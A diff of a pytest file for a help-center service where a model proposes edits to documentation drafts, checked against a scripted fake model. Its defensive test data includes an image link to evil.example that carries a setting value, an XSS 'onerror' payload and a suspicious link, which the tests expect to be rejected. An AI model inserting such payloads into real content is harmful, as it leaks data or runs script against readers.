@@ -1,7 +1,6 @@
 """Tasks with a model: what it adds to their drafts, and that none fails or hurts because of it."""
 
 import json
-from collections.abc import Callable
 
 import pytest
 
@@ -15,14 +14,11 @@ from tests.llm.endpoint import (
     INPUT,
     KEY,
     OUTPUT,
-    Asked,
     Mood,
     errs,
-    follows,
     http,
     is_cut,
     is_huge,
-    proves,
     refuses,
     says,
     sends,
@@ -31,40 +27,38 @@ from tests.llm.endpoint import (
 )
 from tests.support.cast import Api, Cast, Client, Json
 from tests.support.limits import SetSetting
-from tests.tasks.changes import PETS, SETTINGS, SETTINGS_AFTER, get, publish, send, write
+from tests.tasks.changes import PETS, SETTINGS, SETTINGS_AFTER, URL, get, publish, send, write
 
 LINE = "Set `ACME_REQUEST_TIMEOUT` to a number of seconds."
 MORE = f"{LINE} Without `ACME_REQUEST_TIMEOUT` it is 30 seconds."
 FORMATS = "An export holds all articles as Markdown files, and one JSON file.\n"
 
 
+CHOICE = {"sections": [{"section": "A1", "reason": ""}], "searches": []}
+QUOTE = '+TIMEOUT = int(os.environ.get("ACME_REQUEST_TIMEOUT", "30"))'
+
+
 class Scripted:
-    """A model that says what it is told to say, without a network."""
+    """A model that says what it is told to say, without a network; the last reply stays."""
 
     name = "scripted"
 
-    def __init__(self, reply: str | Exception = '{"edits": []}') -> None:
-        self.reply = reply
+    def __init__(self, *replies: object) -> None:
+        self.replies = replies or (CHOICE, {"edits": []})
         self.questions: list[Prompt] = []
 
     async def complete(self, prompt: Prompt, on_text: OnText | None = None) -> Completion:
+        reply = self.replies[min(len(self.questions), len(self.replies) - 1)]
         self.questions.append(prompt)
-        if isinstance(self.reply, Exception):
-            raise self.reply
-        return Completion(self.reply, 750)
+        if isinstance(reply, Exception):
+            raise reply
+        return Completion(json.dumps(reply), 700, 50)
 
 
-def edits_on_settings(search: str, replace: str) -> Callable[[Asked], object]:
-    """Edit the article in whose text the sentence stands, by the id that is in its label."""
-
-    def obey(asked: Asked) -> object:
-        return {"edits": [{"article": label_over(asked.data, search), "search": search, "replace": replace}]}
-
-    return obey
-
-
-def label_over(data: str, text: str) -> str:
-    return data[: data.index(text)].rpartition("BEGIN article ")[2].split(" ")[0]
+def replacing(old: str, new: str, article: str = "A1") -> Json:
+    """A reply that replaces a text of an article."""
+    edit = {"action": "replace", "line": 3, "old": old, "new": new, "reason": "It is new.", "quote": QUOTE}
+    return {"edits": [{"article": article, **edit}]}
 
 
 async def test_its_edits_come_on_top_of_the_certain_ones(
@@ -72,20 +66,21 @@ async def test_its_edits_come_on_top_of_the_certain_ones(
 ) -> None:
     client = api(cast.acme.write_key)
     article = await write_settings(client)
-    async with meet(proves(follows(edits_on_settings(LINE, MORE)))) as (model, behind):
+    async with meet(says(CHOICE), says(replacing(LINE, MORE))) as (model, behind):
         task = await finished(client, database, model)
 
     [named] = task["drafts"]
     draft = await get(client, f"drafts/{named['id']}")
     assert draft["contentMarkdown"] == SETTINGS_AFTER.replace(LINE, MORE)
     assert draft["articleId"] == article["id"]
-    assert f"The model {provider}:scripted-1 rewrote one passage" in draft["reason"]
-    assert of_model(draft) == []
-    assert {(place["file"], place["articleLine"]) for place in draft["evidence"]} == {("src/settings.py", 3)}
-    assert f"The model {provider}:scripted-1 edited one article." in task["summary"]
-    asked, asked_for_proof = behind.asked
-    assert LINE in asked.data
-    assert MORE in asked_for_proof.data
+    assert "It is new." in draft["reason"]
+    assert ("src/settings.py", 3, "It is new.") in [
+        (place["file"], place["articleLine"], place["reason"]) for place in draft["evidence"]
+    ]
+    assert f"The model {provider}:scripted-1 read 1 article and edited 1 article." in task["summary"]
+    choice, question = behind.asked
+    assert "A1.1 Settings" in choice.data
+    assert LINE in question.data
     assert all(KEY not in each.data + each.system for each in behind.asked)
 
 
@@ -138,87 +133,52 @@ async def test_one_that_is_down_is_left_out(api: Api, cast: Cast, database: Data
     assert "was left out. Its host can't be reached." in task["summary"]
 
 
-@pytest.mark.parametrize(
-    ("second", "ending"),
-    [
-        (says({"quotes": []}), "1 of its edits was left out by the checks."),
-        (
-            says({"quotes": [{"edit": 1, "quote": "import os"}]}),
-            "1 of its edits was left out by the checks.",
-        ),
-        (says("It is fine."), "was left out. The check of its edits has not the form that was asked for."),
-        (errs(401), "was left out. It refused the key (401)."),
-    ],
-)
-async def test_an_edit_is_left_out_that_no_line_of_the_diff_proves(
-    api: Api, cast: Cast, database: Database, meet: Meet, second: Mood, ending: str
+async def test_an_edit_that_brings_in_a_strange_link_leaves_a_place_to_write_at(
+    api: Api, cast: Cast, database: Database
 ) -> None:
     client = api(cast.acme.write_key)
     await write_settings(client)
-    async with meet(follows(edits_on_settings(LINE, MORE)), second) as (model, behind):
-        task = await finished(client, database, model)
+    model = Scripted(CHOICE, replacing(LINE, f"{LINE} See [more](https://evil.example/a)."))
+
+    task = await finished(client, database, model)
 
     draft = await get(client, f"drafts/{task['drafts'][0]['id']}")
     assert draft["contentMarkdown"] == SETTINGS_AFTER
-    assert task["summary"].endswith(ending)
-    assert len(behind.asked) == 2
+    assert len(model.questions) == 3
+    [place] = task["places"]
+    assert (await get(client, f"places/{place['id']}"))["line"] == 3
 
 
-async def test_both_questions_together_cost_no_more_than_a_task_may_use(
-    api: Api, cast: Cast, database: Database, set_setting: SetSetting
+async def test_a_dismissed_draft_and_its_reason_are_part_of_the_next_question(
+    api: Api, cast: Cast, database: Database
 ) -> None:
     client = api(cast.acme.write_key)
-    article = await write_settings(client)
-    set_setting("INSTEP_MODEL_TOKENS_PER_TASK", "6000")
-    edit = {"article": article["id"], "search": LINE, "replace": MORE}
-    model = Scripted(json.dumps({"edits": [edit]}))
+    await write_settings(client)
+    first = await finished(client, database, Scripted(CHOICE, replacing(LINE, MORE)))
+    dismissal = {"reason": "wrong_text", "comment": "Nobody runs without it."}
+    gone = await client.post(f"/v1/drafts/{first['drafts'][0]['id']}/dismiss", json=dismissal)
+    assert gone.status_code == 200, gone.text
+    model = Scripted()
 
-    await finished(client, database, model, body="It was too short. " * 5_000)
+    await finished(client, database, model, url=f"{URL}0")
 
-    first, second = model.questions
-    assert first.max_total_tokens + second.max_total_tokens <= 6_000
-
-
-@pytest.mark.parametrize(
-    ("search", "replace", "fault"),
-    [
-        (LINE, f"{LINE} See [more](https://evil.example/a).", "it brings in a link"),
-        (LINE, f"{LINE} ![x](https://evil.example/?d=ACME_URL)", "it brings in a picture"),
-        (LINE, f"{LINE} <img src=x onerror=alert(1)>", "it brings in markup"),
-        (LINE, "Set `ACME_TIMEOUT` to a number of seconds.", "it takes back what is certain"),
-        (LINE, f"{LINE} At most 99.", "neither the change nor the article says `99`"),
-        ("Set nothing.", "Set it.", "the text to replace does not stand in the article exactly once"),
-    ],
-)
-async def test_an_edit_that_does_not_hold_is_left_out_with_a_warning(
-    api: Api, cast: Cast, database: Database, search: str, replace: str, fault: str
-) -> None:
-    client = api(cast.acme.write_key)
-    article = await write_settings(client)
-    edit = {"article": article["id"], "search": search, "replace": replace}
-
-    task = await finished(client, database, Scripted(json.dumps({"edits": [edit]})))
-
-    draft = await get(client, f"drafts/{task['drafts'][0]['id']}")
-    assert draft["contentMarkdown"] == SETTINGS_AFTER
-    assert of_model(draft) == [f"An edit of the model was left out: {fault}."]
-    assert "1 of its edits was left out by the checks." in task["summary"]
+    assert "Nobody runs without it." in model.questions[1].user
 
 
 async def test_an_article_of_another_company_can_not_be_edited(
     api: Api, cast: Cast, database: Database
 ) -> None:
-    theirs = await publish(api(cast.globex.write_key), "Settings", SETTINGS)
+    await publish(api(cast.globex.write_key), "Secrets of Globex", SETTINGS)
     client = api(cast.acme.write_key)
     await write_settings(client)
-    text = "Set `ACME_TIMEOUT` to a number of seconds."
-    edit = {"article": theirs["id"], "search": text, "replace": f"{text} Really."}
+    choice = {"sections": [{"section": "A1"}, {"section": "A3"}], "searches": ["Secrets of Globex"]}
+    model = Scripted(choice, replacing("ACME_TIMEOUT", "ACME_URL", "A3"))
 
-    task = await finished(client, database, Scripted(json.dumps({"edits": [edit]})))
+    task = await finished(client, database, model)
 
     assert len(task["drafts"]) == 1
     assert (await get(api(cast.globex.read_key), "drafts"))["results"] == []
-    assert "1 of its edits was left out" in task["summary"]
+    assert all("Secrets" not in question.user for question in model.questions)
 
 
 async def test_nothing_is_asked_about_a_change_that_concerns_no_article(
@@ -248,7 +208,7 @@ async def test_no_connection_is_held_while_the_model_is_asked(
 
     await finished(client, database, Watching())
 
-    assert free == [True]
+    assert free == [True, True]
 
 
 async def test_what_was_used_is_counted_for_the_bot(
@@ -256,11 +216,11 @@ async def test_what_was_used_is_counted_for_the_bot(
 ) -> None:
     client = api(cast.acme.write_key)
     await write_settings(client)
-    async with meet(says({"edits": []})) as (model, _):
+    async with meet(says(CHOICE), says({"edits": []})) as (model, _):
         await finished(client, database, model)
 
     row = "select tokens from model_use where bot_id = %(bot)s"
-    assert await owner.value(row, bot=cast.acme.bot_id) == INPUT + OUTPUT
+    assert await owner.value(row, bot=cast.acme.bot_id) == 2 * (INPUT + OUTPUT)
 
 
 async def test_when_the_day_is_used_up_tasks_go_on_without_it(
@@ -277,19 +237,18 @@ async def test_when_the_day_is_used_up_tasks_go_on_without_it(
     assert "was left out. The budget of this help center is used up for today." in task["summary"]
 
 
-async def test_no_question_costs_more_than_a_task_may_use(
+async def test_no_questions_cost_more_than_a_task_may_use(
     api: Api, cast: Cast, database: Database, set_setting: SetSetting
 ) -> None:
     client = api(cast.acme.write_key)
     await publish(client, "Settings", SETTINGS + "\n\n".join(f"## Part {n}\n\n{PETS}" for n in range(900)))
-    set_setting("INSTEP_MODEL_TOKENS_PER_TASK", "5000")
+    set_setting("INSTEP_MODEL_TOKENS_PER_TASK", "12000")
     model = Scripted()
 
     await finished(client, database, model, body="It was too short. " * 5_000)
 
-    [question] = model.questions
-    assert 2_000 < question.max_total_tokens <= 5_000
-    assert "ACME_REQUEST_TIMEOUT` to a number of seconds" in question.user
+    assert sum(question.max_total_tokens for question in model.questions) <= 12_000
+    assert "A1.1 Settings" in model.questions[0].user
 
 
 @pytest.mark.parametrize("failure", [CompletionError("It answered 500."), RuntimeError("a fault of ours")])
@@ -310,21 +269,15 @@ async def test_an_article_that_was_asked_for_is_written_out_with_its_sources(
 ) -> None:
     client = api(cast.acme.write_key)
     source = await publish(client, "What exports hold", FORMATS)
-    blocks = [
-        {"text": "Exports are made at night. They hold all articles as Markdown files.", "sources": [0, 1]},
-        {"text": "## Export", "sources": [0]},
-        {"text": "1. Open the settings.\n2. Choose Export.", "sources": [0]},
-    ]
-    async with meet(says({"blocks": blocks})) as (model, behind):
+    text = "Exports are made at night. They hold all articles as Markdown files.\n\n1. Choose Export."
+    async with meet(says({"text": text, "missing": []})) as (model, behind):
         task = await written(client, database, model, title="What an export holds")
 
     draft = await get(client, f"drafts/{task['drafts'][0]['id']}")
     assert draft["contentMarkdown"] == (
-        "Exports are made at night. They hold all articles as Markdown files.\n\n## Export\n\n"
-        "1. Open the settings.\n2. Choose Export.\n\n"
-        f"## Related articles\n\n- [What exports hold]({source['url']})\n"
+        f"{text}\n\n## Related articles\n\n- [What exports hold]({source['url']})\n"
     )
-    assert f"The model {provider}:scripted-1 wrote it out" in draft["reason"]
+    assert f"The model {provider}:scripted-1 wrote it" in draft["reason"]
     assert "An export holds all articles" in behind.asked[0].data
 
 
@@ -357,11 +310,6 @@ async def finished(client: Client, database: Database, model: Model | None, **fi
 
 async def written(client: Client, database: Database, model: Model | None, **fields: object) -> Json:
     return await worked(client, database, model, await write(client, None, **fields))
-
-
-def of_model(draft: Json) -> list[str]:
-    """The warnings of a draft about edits of the model."""
-    return [warning for warning in draft["warnings"] if "of the model" in warning]
 
 
 async def worked(client: Client, database: Database, model: Model | None, task: Json) -> Json:
